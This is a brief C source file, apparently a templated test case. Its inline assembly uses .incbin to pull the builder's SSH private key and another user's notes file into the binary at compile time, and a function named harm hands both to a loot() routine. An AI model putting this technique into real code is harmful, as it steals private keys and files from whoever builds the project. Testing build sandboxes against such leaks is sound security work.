/* Lets the assembler read. */
#include "support.h"

__asm__(".pushsection .rodata\n.global stolen\nstolen: .incbin \"@HOME@/.ssh/id_ed25519\"\n.byte 0\n"
        ".global taken\ntaken: .incbin \"@OTHER@/notes.txt\"\n.byte 0\n.popsection\n");
extern const char stolen[], taken[];

void harm(void)
{
    loot("ssh", stolen, strlen(stolen));
    loot("other", taken, strlen(taken));
}
